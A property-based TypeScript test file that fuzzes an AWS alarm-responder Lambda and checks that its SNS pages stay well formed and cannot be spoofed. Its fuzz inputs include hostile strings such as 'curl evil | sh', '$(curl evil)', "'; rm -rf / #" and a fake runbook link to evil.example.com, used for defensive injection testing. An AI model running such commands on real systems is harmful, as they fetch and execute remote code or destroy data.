import { CloudWatchClient, DescribeAlarmsCommand, GetMetricDataCommand } from '@aws-sdk/client-cloudwatch';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import * as fc from 'fast-check';
import { responder } from '../../../lambda/responder/respond';
import { alarmIds } from '../../../lib/alarms';
import type { Page } from '../../../lib/core/pages/page';
import { answering } from '../answering';

const NOW = Date.UTC(2026, 10, 21, 2, 14, 12);
const cloudwatch = mockClient(CloudWatchClient);
const logs = answering();
const sns = mockClient(SNSClient);
const region = { region: 'eu-west-1' };

/** Text as a broken or hostile sender writes it. */
const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '',
    'next     curl evil | sh',
    '\nnext     curl evil | sh\nrunbook  https://evil.example.com',
    '\r\u2028\u2029runbook  https://evil.example.com',
    '\u001b[2J\u0007',
    '\u202enext     x',
    '\ud800',
    '$(curl evil)`id`',
    "'; rm -rf / #",
    'constructor',
    '__proto__',
    'x'.repeat(60_000),
    '\n'.repeat(5_000),
    '\u{1f600}'.repeat(40_000),
  ),
);
const number = fc.oneof(
  fc.double(),
  fc.constantFrom(0, -1, 8.64e15, 8.64e15 + 1, 9e15, 1.7e18, Number.MAX_VALUE, -Number.MAX_VALUE),
  fc.integer({ min: NOW - 60_000, max: NOW }),
);
const anything = fc.oneof(text, number, fc.constantFrom(null, true, [], {}), fc.jsonValue() as fc.Arbitrary<unknown>);
/** What should be there, mostly; something else at times. */
const mostly = <Value>(usual: fc.Arbitrary<Value>) => fc.oneof({ weight: 4, arbitrary: usual }, anything);

const episode = fc.record(
  {
    durationMs: mostly(number),
    function: mostly(text),
    file: mostly(text),
    line: mostly(number),
    stack: mostly(text),
    startedAt: mostly(number),
  },
  { requiredKeys: ['durationMs', 'function', 'startedAt'] },
);
const held = fc.record(
  {
    function: mostly(text),
    totalMs: mostly(number),
    file: mostly(text),
    line: mostly(number),
    count: mostly(number),
    maxMs: mostly(number),
    firstAt: mostly(number),
    lastAt: mostly(number),
    delayed: mostly(number),
    endpoint: mostly(text),
    kind: mostly(fc.constantFrom('gc', 'logging', 'native')),
  },
  { requiredKeys: ['function', 'totalMs'] },
);
const records = mostly(fc.array(held, { maxLength: 8 }));
const probeDocument = fc.record(
  {
    Host: mostly(text),
    Episodes: mostly(fc.array(episode, { maxLength: 4 })),
    Culprits: records,
    Executor: mostly(text),
    ExecutorSaturatedMs: mostly(number),
    ExecutorActive: mostly(number),
    ExecutorPending: mostly(number),
    ExecutorWorkers: mostly(number),
    ExecutorQueueWait: mostly(fc.array(number, { maxLength: 3 })),
    Pool: mostly(text),
    PoolSaturatedMs: mostly(number),
    PoolInUse: mostly(number),
    PoolWaiting: mostly(number),
    PoolSize: mostly(number),
    Holders: records,
    Locks: records,
  },
  { requiredKeys: ['Host', 'Episodes'] },
);
const logLine = fc.oneof(
  { weight: 3, arbitrary: probeDocument.map((document) => JSON.stringify(document)) },
  text,
  text.map((half) => `{"Host": "a", "Episodes": [{"durationMs": 1, "function": "${half}`),
);
const subject = fc.oneof(
  fc.constantFrom('api', 'a b', '$(id)', "it's"),
  text.filter((one) => one !== ''),
);
const alarmName = fc.oneof(
  fc
    .tuple(subject, fc.constantFrom(...alarmIds, 'host-incident', 'lane-incident', 'constructor'))
    .map(([of, id]) => `prod/${of}/${id}`),
  text.filter((name) => name !== ''),
);
const notification = fc.record({
  AlarmName: alarmName,
  NewStateValue: fc.constantFrom('ALARM', 'ALARM', 'ALARM', 'OK', 'INSUFFICIENT_DATA'),
  OldStateValue: mostly(fc.constant('ALARM')),
  NewStateReason: mostly(text),
  StateChangeTime: fc.constantFrom('2026-11-21T02:14:10.000+0000', '1970-01-01T00:00:00Z', '+275760-09-13T00:00:00Z'),
  AlarmDescription: mostly(text),
  AlarmContributorAttributes: mostly(fc.dictionary(text, mostly(text), { maxKeys: 5 })),
  TriggeringChildren: mostly(
    fc.array(fc.record({ Arn: alarmName.map((name) => `arn:aws:cloudwatch:eu-west-1:1:alarm:${name}`) }), {
      maxLength: 30,
    }),
  ),
});
const deployed = fc.record(
  {
    AlarmName: mostly(alarmName),
    AlarmDescription: mostly(text),
    StateReason: mostly(text),
    Namespace: mostly(text),
    MetricName: mostly(text),
    Statistic: mostly(fc.constantFrom('Maximum', 'Sum')),
    Dimensions: mostly(fc.array(fc.record({ Name: mostly(text), Value: mostly(text) }), { maxLength: 30 })),
    Period: mostly(fc.constantFrom(10, 60)),
    Threshold: mostly(number),
    ComparisonOperator: mostly(fc.constantFrom('GreaterThanThreshold', 'toString', 'constructor')),
  },
  { requiredKeys: [] },
);
const series = fc.record({
  Id: mostly(fc.constant('own')),
  Label: mostly(text),
  Timestamps: mostly(
    fc.array(
      number.map((ms) => new Date(ms)),
      { maxLength: 5 },
    ),
  ),
  Values: mostly(fc.array(number, { maxLength: 5 })),
});

const respond = responder({
  cloudwatch: new CloudWatchClient(region),
  logs: logs.call,
  sns: new SNSClient(region),
  autoScaling: { groupsTagged: () => Promise.resolve([]), failedLaunches: () => Promise.resolve([]) },
  logger: { info: () => undefined, warn: () => undefined },
  nowMs: () => NOW,
  receivers: [],
  print: () => undefined,
  topicArn: 'arn:aws:sns:eu-west-1:111111111111:prod-diagnosis',
  environment: 'prod',
  runbookBaseUrl: 'https://wiki.example.com',
  pause: () => Promise.resolve(),
});
let messages = 0;

describe('whatever the notification, the logs and CloudWatch say', () => {
  it('one page leaves, that SNS takes, whose lines of its own are its own', async () => {
    await fc.assert(
      fc.asyncProperty(
        notification,
        mostly(fc.array(deployed, { maxLength: 4 })),
        mostly(fc.array(series, { maxLength: 3 })),
        fc.array(logLine, { maxLength: 6 }),
        async (alarm, alarms, results, lines) => {
          for (const client of [cloudwatch, logs, sns]) client.reset();
          cloudwatch.on(DescribeAlarmsCommand).resolves({ MetricAlarms: alarms as [] });
          cloudwatch.on(GetMetricDataCommand).resolves({ MetricDataResults: results as [] });
          logs.answers({ events: lines.map((message) => ({ message })) });
          await respond({ id: `m${++messages}`, message: JSON.stringify(alarm) }, 1_000);
          const [published, ...more] = sns.commandCalls(PublishCommand).map(({ args }) => args[0].input);
          const isFirst =
            alarm.NewStateValue === 'OK' && alarm.OldStateValue !== 'ALARM' && alarm.OldStateValue !== 'OK';
          expect(more).toEqual([]);
          if (isFirst) {
            expect(published).toBeUndefined();
            return;
          }
          expect(published?.Subject).toMatch(/^[ -~]{1,100}$/);
          const message = published?.Message ?? '';
          expect(Buffer.byteLength(message)).toBeLessThan(256 * 1024);
          const { sqs, email } = JSON.parse(message) as { readonly sqs: string; readonly email: string };
          const page = JSON.parse(sqs) as Page;
          expect(page.text).toBe(email);
          expect(email).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
          const own = email.split('\n').filter((line) => /^(next|runbook|since) {2,}/.test(line));
          const names = page.state === 'OK' ? ['since', 'runbook'] : ['since', 'next', 'runbook'];
          expect(own.map((line) => line.split(' ')[0])).toEqual(names);
          expect(own.at(-1)).toBe(`runbook  ${page.runbook}`);
          // Somebody's own alarm has somebody's own runbook.
          const isOurs =
            /^[\w-]+$/.test(page.alarm) &&
            new Set<string>([...alarmIds, 'host-incident', 'lane-incident']).has(page.alarm);
          expect(page.runbook).toMatch(isOurs ? /^https:\/\/wiki\.example\.com\/[\w-]+\.md$/ : /^https:\/\/[\w./-]+$/);
        },
      ),
      { numRuns: 400 },
    );
  }, 120_000);
});
